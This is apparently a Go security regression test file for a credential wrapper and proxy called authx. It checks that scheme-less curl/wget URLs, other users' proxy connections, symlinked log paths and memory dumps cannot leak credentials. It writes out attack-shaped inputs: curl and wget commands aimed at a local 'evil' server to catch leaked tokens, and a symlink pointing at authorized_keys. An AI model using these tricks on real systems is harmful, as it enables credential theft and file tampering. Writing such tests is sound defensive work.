package main

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/authx/authx/core"
	"github.com/authx/authx/core/agent"
)

// A URL argument curl or wget fetches although it does not start with
// http:// or https:// (no scheme: the tool guesses http://; "http:/host",
// which both tools read as http://host) is one authx cannot check against
// the scope: the front and authx-cli refuse the command before the tool
// runs, and the host it names never sees the credential.
func TestWrapperRefusesURLWithoutScheme(t *testing.T) {
	for _, tool := range []string{"curl", "wget"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed", tool)
		}
	}
	var mu sync.Mutex
	var leaked []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if a := r.Header.Get("Authorization"); a != "" {
			leaked = append(leaked, r.URL.Path+": "+a)
		}
	}))
	defer evil.Close()
	hostPort := strings.TrimPrefix(evil.URL, "http://")
	e := newEnv(t).set("TOK=scheme-less-secret")
	e.config("profiles:\n  api:\n    scheme: jwt\n    match: https://api.example.com/v1/\n    config: {mode: static, token: env:TOK}\n")
	if r := e.run("token", "api"); r.code != 0 {
		t.Fatalf("token: %+v", r)
	}
	tests := [][]string{
		{"curl", "api", "--", "-s", hostPort + "/a"},
		{"curl", "api", "--", "-s", "http:/" + hostPort + "/b"},
		{"curl", "api", "--", "-s", "--url", hostPort + "/c"},
		{"curl", "api", "--", "-s", "https://api.example.com/v1/x", hostPort + "/d"},
		{"wget", "api", "--", "-qO-", hostPort + "/e"},
		{"wget", "api", "--", "-qO-", "http:/" + hostPort + "/f"},
	}
	for _, args := range tests {
		for _, bin := range []string{"authx", "authx-cli"} {
			r := e.runBin(filepath.Join(binDir, bin), args...)
			if r.code != core.KindConfig.ExitCode() || !strings.Contains(r.stderr, "scheme") {
				t.Errorf("%s %s: %+v, want a config error naming the scheme", bin, strings.Join(args, " "), r)
			}
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(leaked) > 0 {
		t.Errorf("the credential reached a host outside the scope: %q", leaked)
	}
}

// Another user of the machine can connect to a proxy on 127.0.0.1 as well
// as its owner: on Linux the proxy asks the kernel (/proc/net/tcp) whose
// the connecting socket is and closes another user's connection before
// reading a byte of it, so that user never gets a request signed with the
// owner's credential. (Run as root, the test connects as nobody.)
func TestProxyRefusesAnotherUsersConnection(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("the peer's uid of a TCP connection is checked on Linux only")
	}
	if os.Geteuid() != 0 {
		t.Skip("connecting as another user needs root")
	}
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	var mu sync.Mutex
	var got []string
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, r.URL.Path+" "+r.Header.Get("Authorization"))
		io.WriteString(w, "ok\n")
	}))
	defer up.Close()
	e := newEnv(t).set("TOK=other-user-secret")
	e.config(fmt.Sprintf("profiles:\n  p:\n    scheme: jwt\n    url: %s/\n    config: {mode: static, token: env:TOK}\n", up.URL))
	p := startProxy(t, e, "p")

	other := exec.Command("curl", "-sS", "--max-time", "10", p.base+"other")
	other.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	if r := runCmd(t, other); r.code == 0 {
		t.Errorf("curl as nobody through root's proxy: exit 0, %q", r.stdout)
	}
	if out, code := curlOut(t, "-f", p.base+"mine"); code != 0 || out != "ok\n" {
		t.Errorf("curl as the proxy's user: exit %d %q; proxy: %s", code, out, p.stderr)
	}
	mu.Lock()
	defer mu.Unlock()
	if want := []string{"/mine Bearer other-user-secret"}; !slices.Equal(got, want) {
		t.Errorf("the upstream got %q, want %q", got, want)
	}
}

// The agent's --log names a file the agent appends to for as long as it
// runs: a symbolic link there (planted in a shared directory, say) must
// not make it append to the file the link points to, however private.
func TestAgentLogRefusesSymlink(t *testing.T) {
	e := newEnv(t)
	run := filepath.Join(e.home, "run")
	os.MkdirAll(run, 0o700)
	e.set("XDG_RUNTIME_DIR=" + run)
	target := filepath.Join(e.home, "authorized_keys")
	if err := os.WriteFile(target, []byte("ssh-ed25519 AAAA me\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(e.home, "agent.log")
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
	r := e.run("agent", "start", "--log", link)
	t.Cleanup(func() { e.set(agent.EnvSock+"="+filepath.Join(run, "authx", "agent.sock")).run("agent", "stop") })
	if r.code == 0 {
		t.Errorf("agent start --log SYMLINK: %+v, want a refusal", r)
	}
	if data, _ := os.ReadFile(target); string(data) != "ssh-ed25519 AAAA me\n" {
		t.Errorf("the agent wrote through the link: %q", data)
	}
}

// (A guard, not a finding: authx-cli already does this for every command.)
// The agent holds store: memory credentials, which must never reach disk:
// it makes itself not dumpable (no core file, which a crash with
// GOTRACEBACK=crash would write; no reading of its memory by another
// process of the user's without CAP_SYS_PTRACE). The kernel then gives its
// /proc/PID/mem to root. (Run as root, the test starts the agent as nobody.)
func TestAgentIsNotDumpable(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("PR_SET_DUMPABLE is Linux's")
	}
	if os.Geteuid() != 0 {
		t.Skip("running the agent as another user needs root")
	}
	dir, err := os.MkdirTemp("", "authx-dump-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	os.Chmod(dir, 0o755)
	bin := filepath.Join(dir, "authx-cli")
	copyFile(t, filepath.Join(binDir, "authx-cli"), bin)
	os.Chmod(bin, 0o755)
	home := filepath.Join(dir, "home")
	os.Mkdir(home, 0o700)
	os.Chown(home, 65534, 65534)
	sock := filepath.Join(home, "run", "agent.sock")
	c := exec.Command(bin, "agent", "run", "--socket", sock)
	c.Env = []string{"HOME=" + home, "PATH=" + os.Getenv("PATH")}
	c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { c.Process.Kill(); c.Wait() }()
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if _, err := os.Lstat(sock); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the agent did not listen")
		}
	}
	fi, err := os.Stat(fmt.Sprintf("/proc/%d/mem", c.Process.Pid))
	if err != nil {
		t.Fatal(err)
	}
	if uid := fi.Sys().(*syscall.Stat_t).Uid; uid != 0 {
		t.Errorf("/proc/PID/mem of the agent belongs to uid %d: the agent is dumpable", uid)
	}
}
